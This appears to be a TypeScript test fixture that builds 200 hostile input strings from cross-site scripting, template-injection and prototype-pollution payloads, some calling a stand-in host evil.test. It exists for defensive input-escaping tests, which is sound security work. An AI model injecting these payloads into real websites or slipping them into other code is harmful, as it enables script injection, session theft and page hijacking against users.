/** What would set `hacked` or open a dialog, if any of it ran. Each fits into a name: 64 characters, no comma. */
const PAYLOADS = [
  '<script>hacked=1</script>',
  '<script src=//evil.test></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>hacked=1</script>',
  '</title><script>hacked=1</script>',
  '</textarea><script>hacked=1</script>',
  '</script><script>hacked=1</script>',
  '<img src=x onerror=hacked=1>',
  '<img src=x onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src=//evil.test/a.png>',
  '<svg onload=hacked=1>',
  '<svg/onload=alert(1)>',
  '<svg><script>hacked=1</script></svg>',
  '<svg><animate onbegin=hacked=1 attributeName=x>',
  '<svg><a xlink:href=javascript:hacked=1><text>x',
  '<math href=javascript:hacked=1>x</math>',
  '<body onload=hacked=1>',
  '<iframe src=javascript:parent.hacked=1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>">',
  '<iframe src=//evil.test>',
  '<object data=javascript:hacked=1>',
  '<embed src=javascript:hacked=1>',
  '<link rel=stylesheet href=//evil.test/a.css>',
  '<link rel=prefetch href=//evil.test>',
  '<style>@import "//evil.test/a.css";</style>',
  '<style>*{background:url(//evil.test)}</style>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<form action=//evil.test><input autofocus onfocus=hacked=1>',
  '<input autofocus onfocus=hacked=1>',
  '<details open ontoggle=hacked=1>x</details>',
  '<video src=x onerror=hacked=1>',
  '<audio src=x onerror=hacked=1>',
  '<marquee onstart=hacked=1>x</marquee>',
  '<a href=javascript:hacked=1>x</a>',
  '<a href="//evil.test" target=_blank>x</a>',
  '<div style=background:url(//evil.test)>x',
  '<table background=//evil.test>',
  '<template><script>hacked=1</script></template>',
  'javascript:hacked=1',
  'data:text/html;base64;<script>hacked=1</script>',
  '{{constructor.constructor("hacked=1")()}}',
  '${hacked=1}',
  '#{hacked=1}',
  '<%= hacked=1 %>',
  '{"__proto__":{"hacked":1}}',
  '__proto__',
  'constructor',
  'toString',
];

/** Ways out of where a name may stand: an attribute, a string of a script, a comment, an address. */
const ESCAPES = ['', '">', "'>", '-->'];

/** 200 names that somebody with bad intentions would give. */
export const HOSTILE_STRINGS: readonly string[] = ESCAPES.flatMap((escape) =>
  PAYLOADS.map((payload) =>
    Array.from(escape + payload)
      .slice(0, 64)
      .join(''),
  ),
);
